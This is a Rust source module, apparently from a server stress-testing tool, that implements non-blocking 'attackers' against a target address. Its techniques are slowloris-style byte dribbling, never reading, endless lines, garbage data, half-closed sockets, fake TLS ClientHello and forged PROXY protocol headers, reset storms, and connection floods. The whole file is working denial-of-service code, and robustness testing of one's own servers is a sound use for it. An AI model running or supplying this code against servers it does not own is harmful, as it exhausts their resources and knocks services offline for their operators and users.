//! The attackers of one attack: sockets that never wait, all on one thread.

use std::{
    io::{self, Read, Write},
    net::{Shutdown, SocketAddr, TcpStream},
    thread,
    time::Duration,
};

use socket2::SockRef;

use super::attack::Attack;

/// How much one attacker sends at most without a reason to stop: a server that takes it all may go on taking it.
const MAX_SENT: usize = 4 << 20;

/// So many come and go at most: each leaves a port of this machine behind for a minute.
const MAX_CONNECTED: usize = 5000;

/// How long the attackers rest after each has done something.
const PAUSE: Duration = Duration::from_millis(10);

const CONNECT_TIMEOUT: Duration = Duration::from_secs(1);

/// The first bytes of a ClientHello that says that it has 512: TLS 1.2 in the record, a handshake of the kind 1.
const CLIENT_HELLO: &[u8] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";

/// The signature of PROXY version 2, PROXY over TCP and IPv4, and a length of 65535.
const PROXY_V2: &[u8] = b"\r\n\r\n\0\r\nQUIT\n\x21\x11\xff\xff\x7f\0\0\x01\x7f\0\0\x01\0\x50\0\x50";

const PROXY_V1: &[u8] = b"PROXY TCP4 127.0.0.1 127.0.0.1 1 1\r\n";

/// The attackers that stay, and what those need who come and go.
pub(super) struct Attackers<'a> {
    attack: Attack,
    server: SocketAddr,
    request: &'a [u8],
    count: usize,
    staying: Vec<Attacker>,
    /// How many have connected so far.
    connected: usize,
    garbage: Garbage,
}

/// An attacker that stays until the attack is over.
struct Attacker {
    socket: TcpStream,
    /// Which of them it is: some do one thing and some another.
    number: usize,
    sent: usize,
    /// The server has ended the connection.
    has_ended: bool,
}

impl<'a> Attackers<'a> {
    /// Connects as many as the server takes.
    pub(super) fn new(attack: Attack, server: SocketAddr, request: &'a [u8], count: usize) -> Attackers<'a> {
        // Some word is needed that can be said in part.
        let request = if request.is_empty() { b"hello\r\n" } else { request };
        let mut attackers =
            Attackers { attack, server, request, count, staying: Vec::new(), connected: 0, garbage: Garbage(1) };
        if !attackers.come_and_go() {
            for number in 0..count {
                let socket = attackers.connect();
                attackers.staying.extend(socket.map(|socket| Attacker::new(socket, number)));
            }
        }
        attackers
    }

    pub(super) fn connected(&self) -> usize {
        self.connected
    }

    /// How many attackers that stay connected the server has not ended. `None`: this attack has none.
    pub(super) fn still_open(&self) -> Option<usize> {
        let open = self.staying.iter().filter(|attacker| !attacker.has_ended);
        (!self.come_and_go()).then(|| open.count())
    }

    /// Each does what comes next, without waiting for the server.
    pub(super) fn go_on(&mut self) {
        if self.come_and_go() && self.connected < MAX_CONNECTED {
            (0..self.count).for_each(|number| self.come_and_leave(number));
        }
        for attacker in self.staying.iter_mut().filter(|attacker| !attacker.has_ended) {
            let gone_on = attacker.go_on(self.attack, self.request, &mut self.garbage);
            attacker.has_ended = gone_on.is_err_and(|error| error.kind() != io::ErrorKind::WouldBlock);
        }
        thread::sleep(PAUSE);
    }

    fn come_and_go(&self) -> bool {
        matches!(self.attack, Attack::Resetting | Attack::Flood)
    }

    fn come_and_leave(&mut self, number: usize) {
        let Some(mut socket) = self.connect() else { return };
        if self.attack == Attack::Resetting {
            // The server may have been quicker.
            let _ = socket.write(self.part_of_request(number));
            let _ = SockRef::from(&socket).set_linger(Some(Duration::ZERO));
        }
    }

    fn part_of_request(&self, number: usize) -> &'a [u8] {
        part_of(self.request, number)
    }

    fn connect(&mut self) -> Option<TcpStream> {
        let socket = TcpStream::connect_timeout(&self.server, CONNECT_TIMEOUT).ok()?;
        socket.set_nonblocking(true).ok()?;
        self.connected += 1;
        Some(socket)
    }
}

/// Nothing of the request, a half of it, or all of it.
fn part_of(request: &[u8], number: usize) -> &[u8] {
    &request[..[0, request.len() / 2, request.len()][number % 3]]
}

impl Attacker {
    fn new(socket: TcpStream, number: usize) -> Attacker {
        Attacker { socket, number, sent: 0, has_ended: false }
    }

    /// An error other than `WouldBlock` means that the server has ended the connection.
    fn go_on(&mut self, attack: Attack, request: &[u8], garbage: &mut Garbage) -> io::Result<()> {
        if attack != Attack::NeverReading {
            self.read_all()?;
        }
        match attack {
            Attack::Dribbling if self.sent + 1 < request.len() => self.send(&[request[self.sent]])?,
            Attack::NeverReading => self.press(&request.repeat(1024 / request.len() + 1))?,
            Attack::EndlessLine => self.press(&[b'x'; 16 << 10])?,
            Attack::Garbage => self.press(&garbage.bytes())?,
            Attack::HalfClosing if self.sent == 0 => {
                self.send(part_of(request, self.number))?;
                // So that it does so once.
                self.sent += 1;
                self.socket.shutdown(Shutdown::Write)?;
            }
            Attack::TlsLiar if self.sent == 0 => {
                self.send(CLIENT_HELLO)?;
                if self.number % 2 == 1 {
                    self.send(&garbage.bytes())?;
                }
            }
            Attack::ProxyLiar if self.sent == 0 => match self.number % 2 {
                0 => self.send(&[PROXY_V1, request].concat())?,
                _ => self.send(PROXY_V2)?,
            },
            _ => {}
        }
        Ok(())
    }

    /// Sends until the server takes no more for now.
    fn press(&mut self, bytes: &[u8]) -> io::Result<()> {
        while self.sent < MAX_SENT {
            self.send(bytes)?;
        }
        Ok(())
    }

    fn send(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.sent += (&self.socket).write(bytes)?;
        Ok(())
    }

    fn read_all(&mut self) -> io::Result<()> {
        let mut buffer = [0; 16 << 10];
        loop {
            match (&self.socket).read(&mut buffer) {
                Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
                Ok(_) => {}
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => return Ok(()),
                Err(error) => return Err(error),
            }
        }
    }
}

/// A linear congruential generator: the same garbage each time.
struct Garbage(u32);

impl Garbage {
    fn bytes(&mut self) -> [u8; 4096] {
        std::array::from_fn(|_| {
            self.0 = self.0.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (self.0 >> 24) as u8
        })
    }
}
